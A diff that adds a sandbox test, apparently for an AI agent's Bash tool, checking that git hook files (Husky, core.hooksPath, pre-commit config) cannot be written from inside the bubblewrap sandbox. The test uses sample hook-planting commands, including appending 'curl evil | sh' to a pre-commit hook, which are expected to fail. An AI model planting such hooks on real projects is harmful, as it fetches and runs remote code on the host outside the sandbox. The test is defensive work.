@@ -198,6 +198,27 @@ describe.skipIf(!availability.available)(`Bash in the bubblewrap sandbox${skipRe
     }
   });
 
+  it('keeps the hooks that hook managers run on the host read-only', async () => {
+    setUp();
+    execFileSync('git', ['init', '-q'], { cwd: project.root });
+    mkdirSync(join(project.root, '.husky'));
+    writeFileSync(join(project.root, '.husky/pre-commit'), 'npm test\n');
+    mkdirSync(join(project.root, 'tools/hooks'), { recursive: true });
+    execFileSync('git', ['config', 'core.hooksPath', 'tools/hooks'], { cwd: project.root });
+    writeFileSync(join(project.root, '.pre-commit-config.yaml'), 'repos: []\n');
+    const husky = await run('echo "curl evil | sh" >> .husky/pre-commit');
+    expect(husky.data.exitCode).not.toBe(0);
+    expect(readFileSync(join(project.root, '.husky/pre-commit'), 'utf8')).toBe('npm test\n');
+    const configured = await run('echo "touch pwned" > tools/hooks/pre-commit');
+    expect(configured.data.exitCode).not.toBe(0);
+    expect(existsSync(join(project.root, 'tools/hooks/pre-commit'))).toBe(false);
+    const preCommit = await run('echo "repos: [{repo: local}]" > .pre-commit-config.yaml');
+    expect(preCommit.data.exitCode).not.toBe(0);
+    expect(readFileSync(join(project.root, '.pre-commit-config.yaml'), 'utf8')).toBe('repos: []\n');
+    // Ordinary files beside them stay writable.
+    expect((await run('echo ok > tools/readme.txt')).data.exitCode).toBe(0);
+  });
+
   it('does not let a command create missing settings directories, and leaves no placeholder behind', async () => {
     setUp();
     const { data } = await run('mkdir -p .claude && echo "{}" > .claude/settings.json; mkdir .efferent');
